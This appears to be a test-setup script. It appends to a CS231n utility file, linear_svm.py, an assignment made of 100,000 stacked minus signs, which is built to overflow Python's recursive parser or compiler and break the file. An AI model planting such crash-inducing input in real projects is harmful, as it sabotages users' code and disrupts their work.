"""Signs before a number; compilers walk down such a tree by recursion."""

from pathlib import Path


def build(folder: Path) -> None:
    with open(folder / "cs231n_utils" / "linear_svm.py", "a") as file:
        file.write("\nx = " + "-" * 100_000 + "1\n")
